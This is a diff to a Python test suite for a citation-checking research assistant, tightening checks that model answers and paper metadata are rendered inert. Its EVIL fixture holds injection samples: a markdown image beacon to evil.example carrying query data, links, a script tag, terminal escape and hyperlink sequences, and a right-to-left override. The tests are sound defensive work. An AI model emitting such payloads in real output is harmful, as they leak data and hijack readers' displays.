@@ -20,7 +20,7 @@ from typer.testing import CliRunner, Result
 
 from assistant.app import Assistant
 from assistant.citations import NOT_SAID
-from assistant.cleaning import clean
+from assistant.cleaning import clean, one_line
 from assistant.cli import app
 from assistant.drafts import parse
 from assistant.papers import MAX_ABSTRACT, Filters, StoredPaper
@@ -140,6 +140,7 @@ def held_to_the_promise(answer: Answer) -> None:
     """Every marker that is shown is a citation that was checked, and every form is inert."""
     numbers = {citation.n for citation in answer.citations}
     for sentence in (*answer.sentences, *answer.removed):
+        assert sentence.text == one_line(sentence.text)
         assert set(sentence.citations) <= numbers
         shown = re.findall(r"[\[【［]\s*\^?(\d+)\s*[\]】］]", sentence.text)
         assert {int(n) for n in shown} <= set(sentence.citations), sentence.text
@@ -177,7 +178,7 @@ def test_quoted_it_is_inert_and_cites_nothing_but_itself(
 
 EVIL = (
     "The zorbium lattice reduces memory by 40% [1][99]. ![x](https://evil.example/p.png?q=memory) "
-    "[read](https://evil.example) https://evil.example/bare <script>alert(1)</script> \x1b[2J\x1b]8;;https://evil.example"
+    "[read](https://evil.example/link) https://evil.example/bare <script>alert(1)</script> \x1b[2J\x1b]8;;https://evil.example"
     "\x07 \u202e &#x202e;&#27;[31m\n\n| a | b |\n| - | - |\n| [98] | <b> |\n\n[x]: https://evil.example\n"
 )
 
@@ -197,6 +198,7 @@ def test_copied_by_a_model_it_is_inert_and_cites_nothing(
     model.replies, model.bodies = [copying], []
     answer = opened("model").ask(QUESTION, filters=only(papers[name]), k=1)
     held_to_the_promise(answer)
+    assert not re.search(r"p\.png|/link", answer.text)  # addresses of links and images are gone
     assert answer.failure == ""
     assert answer.writer in ("m", None)
     assert answer.invented == (("[99]", "[98]") if answer.writer else ())  # the model's own
@@ -264,6 +266,8 @@ def test_every_command_is_inert(form: str, shelf: Path, papers: dict[str, Stored
 @pytest.mark.parametrize("name", IDS, ids=ascii)
 def test_shown_it_is_inert_and_whole(name: str, papers: dict[str, StoredPaper]) -> None:
     paper = papers[name]
+    for said in (paper.paper_id, *paper.paper.authors, *paper.paper.categories, paper.paper.organization or ""):
+        assert said == one_line(said)
     text = markdown.paper(paper)
     inert.markdown(text)
     page = inert.Page(MarkdownIt().render(text))
